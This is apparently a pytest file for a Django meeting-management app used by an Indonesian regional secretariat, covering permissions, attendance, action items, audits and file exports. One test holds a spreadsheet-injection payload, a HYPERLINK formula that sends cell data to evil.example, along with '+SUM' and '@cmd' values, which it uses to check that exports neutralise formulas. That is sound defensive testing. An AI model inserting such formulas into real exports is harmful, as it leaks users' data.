"""Meeting pages: what the secretariat and an OPD operator see and may do, and the xlsx downloads."""

from __future__ import annotations

import io
from datetime import date, timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from tepat.meetings.actions import do_add_action_item, do_add_decision, do_create_meeting, do_hold_meeting
from tepat.meetings.models import ActionItem, ActionStatus, Meeting, MeetingStatus
from tests.test_meetings import held_rakor, opds, values  # noqa: F401  (fixtures)


def client_for(client, user):
    client.force_login(user)
    return client


def sheet(response, name: str) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return list(book[name].iter_rows(values_only=True))


def test_the_list_shows_the_compliance_panel_and_the_meetings(client, held_rakor, cast):
    meeting, _ = held_rakor
    page = client_for(client, cast["analyst"]).get("/rapat/?tahun=2026")
    text = page.content.decode()
    assert page.status_code == 200
    assert 'data-testid="compliance-held">1</b>' in text and "Permendagri 53/2020 Pasal 13 ayat (3)" in text
    assert meeting.title in text and "Rapat baru" in text
    assert "Dinas Sosial" in text  # open items by OPD, for the secretariat


def test_a_viewer_reads_meetings_but_cannot_manage_or_see_open_items_by_opd(client, held_rakor, cast):
    meeting, _ = held_rakor
    c = client_for(client, cast["viewer"])
    text = c.get("/rapat/?tahun=2026").content.decode()
    assert meeting.title in text and "Rapat baru" not in text and 'data-testid="open-by-opd"' not in text
    assert c.get("/rapat/baru/").status_code == 404
    assert c.post(f"/rapat/{meeting.pk}/keputusan/", {"text": "x"}).status_code == 404
    assert c.get("/tindak-lanjut/").status_code == 404


def test_the_secretariat_creates_a_meeting_with_invitees_and_the_open_items_carried(client, held_rakor, cast, opds):
    _, items = held_rakor
    c = client_for(client, cast["analyst"])
    data = {
        **values(date(2026, 12, 9), title="Rakor TKPKD III"),
        "date": "2026-12-09",
        "start_time": "09:00",
        "opds": [opds["dinsos"].pk],
        "regions": [],
        "guests": "BPS Kota Tanjungbalai; Hendra; Statistisi",
    }
    response = c.post("/rapat/baru/", data)
    meeting = Meeting.objects.get(title="Rakor TKPKD III")
    assert response.status_code == 302 and response["Location"] == f"/rapat/{meeting.pk}/"
    assert [p.label() for p in meeting.participants.all()] == ["Dinas Sosial", "BPS Kota Tanjungbalai"]
    detail = c.get(response["Location"]).content.decode()
    assert "Tindak lanjut hasil rapat sebelumnya (3)" in detail and items["muskel"].what in detail


def test_a_guest_line_without_institution_is_refused_naming_the_line(client, cast):
    c = client_for(client, cast["analyst"])
    data = {**values(date(2026, 12, 9)), "date": "2026-12-09", "start_time": "09:00", "guests": "BPS; A; B\n; Nama"}
    page = c.post("/rapat/baru/", data)
    assert page.status_code == 200 and "Baris 2" in page.content.decode() and not Meeting.objects.exists()


def test_attendance_is_recorded_from_the_checkboxes(client, held_rakor, cast):
    meeting, _ = held_rakor
    c = client_for(client, cast["analyst"])
    perkim = meeting.participants.get(opd__code="perkim")
    c.post(f"/rapat/{meeting.pk}/kehadiran/", {"present": [perkim.pk]})
    assert meeting.attendance() == (1, 4)
    assert "1 / 4" in c.get(f"/rapat/{meeting.pk}/").content.decode()


def test_minutes_decisions_and_items_are_added_from_the_meeting_page(client, held_rakor, cast, opds):
    meeting, _ = held_rakor
    c = client_for(client, cast["analyst"])
    c.post(f"/rapat/{meeting.pk}/notulen/", {"minutes": "Dibuka oleh Asisten."})
    c.post(f"/rapat/{meeting.pk}/keputusan/", {"text": "Data PBI diperbarui tiap bulan"})
    decision = meeting.decisions.get(number=3)
    c.post(
        f"/rapat/{meeting.pk}/tindak-lanjut/",
        {"what": "Kirim data PBI", "owner": opds["dinsos"].pk, "due": "2026-12-20", "decision": decision.pk},
    )
    meeting.refresh_from_db()
    assert meeting.minutes == "Dibuka oleh Asisten."
    assert ActionItem.objects.get(what="Kirim data PBI").decision == decision
    bad = c.post(
        f"/rapat/{meeting.pk}/tindak-lanjut/", {"what": "x", "owner": opds["dinsos"].pk, "due": "kemarin"}, follow=True
    )
    assert "Batas waktu" in bad.content.decode()


def test_a_future_meeting_cannot_be_marked_held(client, cast):
    meeting = do_create_meeting(values(timezone.localdate() + timedelta(days=10)), acting_user=cast["analyst"])
    page = client_for(client, cast["analyst"]).post(f"/rapat/{meeting.pk}/terlaksana/", follow=True)
    meeting.refresh_from_db()
    assert meeting.status == MeetingStatus.PLANNED and "belum berlangsung" in page.content.decode()


def test_an_opd_operator_sees_and_reports_only_their_own_items(client, held_rakor, cast):
    _, items = held_rakor
    c = client_for(client, cast["opd"])
    text = c.get("/tindak-lanjut/").content.decode()
    assert items["muskel"].what in text and items["data"].what in text and items["rtlh"].what not in text
    assert "terlambat" in text
    assert c.get(f"/tindak-lanjut/{items['rtlh'].pk}/").status_code == 404
    assert c.post(f"/tindak-lanjut/{items['rtlh'].pk}/tutup/", {"status": "done"}).status_code == 404
    assert items["rtlh"].what not in c.get("/tindak-lanjut/?opd=perkim&status=semua").content.decode()

    upload = SimpleUploadedFile("foto-muskel.jpg", b"\xff\xd8\xff jpeg", content_type="image/jpeg")
    c.post(f"/tindak-lanjut/{items['muskel'].pk}/", {"note": "12 kelurahan selesai", "evidence": upload})
    items["muskel"].refresh_from_db()
    assert items["muskel"].status == ActionStatus.IN_PROGRESS
    progress = items["muskel"].progress.get()
    evidence = c.get(f"/tindak-lanjut/{items['muskel'].pk}/bukti/{progress.pk}/")
    assert evidence.status_code == 200 and b"".join(evidence.streaming_content) == b"\xff\xd8\xff jpeg"
    c.post(f"/tindak-lanjut/{items['muskel'].pk}/tutup/", {"status": "dropped", "note": "tidak perlu"})
    items["muskel"].refresh_from_db()
    assert items["muskel"].status == ActionStatus.IN_PROGRESS  # an OPD may not drop an item
    c.post(f"/tindak-lanjut/{items['muskel'].pk}/tutup/", {"status": "done", "note": "31 kelurahan"})
    items["muskel"].refresh_from_db()
    assert items["muskel"].status == ActionStatus.DONE


def test_another_opds_operator_cannot_fetch_the_evidence(client, held_rakor, cast):
    from tepat.accounts.actions import do_create_user
    from tepat.meetings.actions import do_record_progress

    _, items = held_rakor
    progress = do_record_progress(
        items["muskel"], note="x", evidence=SimpleUploadedFile("a.pdf", b"%PDF"), acting_user=cast["opd"]
    )
    perkim_user, _ = do_create_user(
        "perkim_op", role="opd", opd_code="perkim", acting_user=None, password="rahasia-123"
    )
    c = client_for(client, perkim_user)
    assert c.get(f"/tindak-lanjut/{items['muskel'].pk}/bukti/{progress.pk}/").status_code == 404
    assert items["rtlh"].what in c.get("/tindak-lanjut/").content.decode()


def test_the_overdue_filter_and_its_xlsx(client, held_rakor, cast):
    _, items = held_rakor
    c = client_for(client, cast["analyst"])
    text = c.get("/tindak-lanjut/?status=terlambat").content.decode()
    assert items["muskel"].what in text and items["rtlh"].what not in text
    rows = sheet(c.get("/tindak-lanjut/unduh.xlsx?status=terlambat"), "Tindak lanjut")
    assert rows[0][:3] == ("ID", "Tindak lanjut", "OPD")
    assert {r[1] for r in rows[1:]} == {items["muskel"].what, items["data"].what}
    assert all(r[8] == "Ya" for r in rows[1:])


def test_the_meeting_xlsx_has_every_table_of_the_page(client, held_rakor, cast):
    meeting, _ = held_rakor
    response = client_for(client, cast["analyst"]).get(f"/rapat/{meeting.pk}/unduh.xlsx")
    assert [r[1] for r in sheet(response, "Peserta")[1:]] == [
        "Dinas Sosial",
        "Dinas Perumahan dan Kawasan Permukiman",
        "Camat Datuk Bandar",
        "BPS Kota Tanjungbalai",
    ]
    assert [r[1] for r in sheet(response, "Keputusan")[1:]] == [
        "Verivali P3KE selesai sebelum Juni",
        "Rumah tidak layak huni desil 1 diprioritaskan",
    ]
    assert len(sheet(response, "Tindak lanjut")) == 4


def test_a_formula_in_a_title_or_an_item_is_neutralised_in_every_export(client, cast, opds):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    analyst = cast["analyst"]
    meeting = do_create_meeting({**values(date(2026, 3, 2)), "title": evil}, acting_user=analyst, opds=[opds["dinsos"]])
    do_hold_meeting(meeting, acting_user=analyst, today=date(2026, 11, 28))
    decision = do_add_decision(meeting, "+SUM(1,2)", acting_user=analyst)
    do_add_action_item(
        meeting, what="@cmd", owner=opds["dinsos"], due=date(2026, 4, 1), decision=decision, acting_user=analyst
    )
    c = client_for(client, analyst)
    meetings = sheet(c.get("/rapat/unduh.xlsx?tahun=2026"), "Rapat")
    assert meetings[1][2] == "'" + evil
    tables = c.get(f"/rapat/{meeting.pk}/unduh.xlsx")
    assert sheet(tables, "Keputusan")[1][1] == "'+SUM(1,2)"
    assert sheet(tables, "Tindak lanjut")[1][1] == "'@cmd" and sheet(tables, "Tindak lanjut")[1][3] == "'" + evil
    book = openpyxl.load_workbook(io.BytesIO(tables.content))
    assert all(cell.data_type != "f" for ws in book for row in ws.iter_rows() for cell in row)


@pytest.mark.parametrize(
    "name", ["notulen.docx", "notulen.pdf", "daftar-hadir.docx", "daftar-hadir.pdf", "undangan.docx"]
)
def test_each_document_downloads_with_a_dated_file_name(client, held_rakor, cast, name):
    meeting, _ = held_rakor
    response = client_for(client, cast["opd"]).get(f"/rapat/{meeting.pk}/dokumen/{name}")
    stem, suffix = name.rsplit(".", 1)
    assert response.status_code == 200
    assert f'filename="{stem}-rakor-2026-03-11.{suffix}"' in response["Content-Disposition"]
    assert response.content[:4] in (b"%PDF", b"PK\x03\x04")


def test_an_unknown_document_is_not_found(client, held_rakor, cast):
    meeting, _ = held_rakor
    assert client_for(client, cast["analyst"]).get(f"/rapat/{meeting.pk}/dokumen/rahasia.txt").status_code == 404


def test_editing_a_meeting_is_audited_and_keeps_its_invitees(client, held_rakor, cast):
    meeting, _ = held_rakor
    c = client_for(client, cast["analyst"])
    data = {
        **values(meeting.date, title="Rakor TKPKD I 2026"),
        "date": "2026-03-11",
        "start_time": "10:00",
        "place": "Aula Bapperida",
    }
    assert c.get(f"/rapat/{meeting.pk}/ubah/").status_code == 200
    c.post(f"/rapat/{meeting.pk}/ubah/", data)
    meeting.refresh_from_db()
    assert meeting.title == "Rakor TKPKD I 2026" and meeting.participants.count() == 4
    from tepat.accounts.models import AuditEvent

    changes = AuditEvent.objects.get(action="meeting_updated").details["changes"]
    assert changes["title"] == ["Rakor TKPKD I", "Rakor TKPKD I 2026"] and changes["start_time"] == [
        "09:00:00",
        "10:00:00",
    ]


# ---------------------------------------------------------------- issue 14: meetings that stay true
def _duplicate(meeting, analyst):
    """The same rakor entered twice and both marked held: the count reads one too many."""
    twin = do_create_meeting(values(meeting.date, title=meeting.title), acting_user=analyst)
    return do_hold_meeting(twin, acting_user=analyst, today=date(2026, 12, 1))


def test_a_duplicate_rakor_is_cancelled_with_a_reason_and_no_longer_counted(client, held_rakor, cast):
    from tepat.accounts.models import AuditEvent

    meeting, _ = held_rakor
    twin = _duplicate(meeting, cast["analyst"])
    c = client_for(client, cast["analyst"])
    listing = c.get("/rapat/?tahun=2026").content.decode()
    assert 'data-testid="compliance-held">2</b>' in listing
    counted = listing[
        listing.index('data-testid="counted"') : listing.index("</details>", listing.index('data-testid="counted"'))
    ]
    assert counted.count(f"/rapat/{twin.pk}/") == 1 and counted.count(f"/rapat/{meeting.pk}/") == 1
    assert c.post(f"/rapat/{twin.pk}/batal/", {"reason": ""}).status_code == 302
    twin.refresh_from_db()
    assert twin.status == MeetingStatus.HELD  # a reason is required
    c.post(f"/rapat/{twin.pk}/batal/", {"reason": "Rakor yang sama tercatat dua kali"})
    twin.refresh_from_db()
    assert twin.status == MeetingStatus.CANCELLED and twin.cancelled_by == cast["analyst"]
    listing = c.get("/rapat/?tahun=2026").content.decode()
    assert 'data-testid="compliance-held">1</b>' in listing and "Dibatalkan" in listing
    page = c.get(f"/rapat/{twin.pk}/").content.decode()
    assert "Rakor yang sama tercatat dua kali" in page and 'data-testid="cancel-form"' not in page
    event = AuditEvent.objects.get(action="meeting_cancelled")
    assert event.details == {"reason": "Rakor yang sama tercatat dua kali", "status_before": "held"}
    assert c.post(f"/rapat/{twin.pk}/terlaksana/").status_code == 302
    twin.refresh_from_db()
    assert twin.status == MeetingStatus.CANCELLED  # a cancelled meeting cannot be held again


def test_creating_a_second_meeting_of_the_same_type_and_date_asks_first(client, held_rakor, cast, opds):
    meeting, _ = held_rakor
    c = client_for(client, cast["analyst"])
    data = {
        **values(meeting.date, title="Rakor TKPKD I (lagi)"),
        "date": "2026-03-11",
        "start_time": "09:00",
        "opds": [opds["dinsos"].pk],
        "regions": [],
        "guests": "",
    }
    page = c.post("/rapat/baru/", data)
    assert page.status_code == 200 and 'data-testid="same-day"' in page.content.decode()
    assert (
        f"/rapat/{meeting.pk}/" in page.content.decode()
        and not Meeting.objects.filter(title="Rakor TKPKD I (lagi)").exists()
    )
    assert c.post("/rapat/baru/", {**data, "same_day_ok": "1"}).status_code == 302
    assert Meeting.objects.filter(title="Rakor TKPKD I (lagi)").exists()


def test_only_the_secretariat_cancels(client, held_rakor, cast):
    meeting, _ = held_rakor
    assert client_for(client, cast["opd"]).post(f"/rapat/{meeting.pk}/batal/", {"reason": "x"}).status_code == 404
    meeting.refresh_from_db()
    assert meeting.status == MeetingStatus.HELD


def test_the_minutes_box_has_a_label(client, held_rakor, cast):
    meeting, _ = held_rakor
    page = client_for(client, cast["analyst"]).get(f"/rapat/{meeting.pk}/").content.decode()
    assert '<label for="id_minutes" class="visually-hidden">Notulen</label>' in page


def test_the_item_page_has_unique_element_ids(client, held_rakor, cast):
    import re

    _, items = held_rakor
    page = client_for(client, cast["analyst"]).get(f"/tindak-lanjut/{items['muskel'].pk}/").content.decode()
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert "id_note" in ids and len(ids) == len(set(ids))
